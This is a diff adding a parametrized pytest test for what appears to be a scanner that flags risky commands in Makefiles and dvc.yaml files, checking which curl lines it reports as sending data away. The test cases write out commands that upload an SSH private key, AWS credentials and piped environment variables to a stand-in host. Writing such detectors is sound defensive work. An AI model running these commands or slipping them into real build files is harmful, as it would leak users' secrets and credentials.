@@ -268,3 +268,20 @@ def test_a_piece_that_begins_within_a_line_begins_with_no_comment(shift):
     text = "#!/bin/sh\n" + ": z\n" * ((end - 20) // 4)
     text += "z" * (end - len(text) - 1) + "x#; " + PIPED + "\n" + ": z\n" * (1 << 19)
     assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]
+
+
+@pytest.mark.parametrize(
+    ("command", "found"),
+    [
+        ("curl -s -F k=@$HOME/.ssh/id_rsa https://x/u", True),
+        ("env | curl -s --data-binary @- https://x/d", True),
+        ("printenv | base64 | curl -d @- https://x", True),
+        ("curl -T - https://x -d @~/.aws/credentials", True),
+        ("curl -F file=@model.bin https://x/upload", False),
+        ("env | grep PATH && curl -O https://x/y", False),
+        ("venv/bin/env | sort", False),
+    ],
+)
+def test_what_is_sent_away(command, found):
+    for name in ("Makefile", "dvc.yaml"):
+        assert (("MLG-CMD-001", "high") in verdicts(f"a:\n  cmd: {command}\n", name)) == found
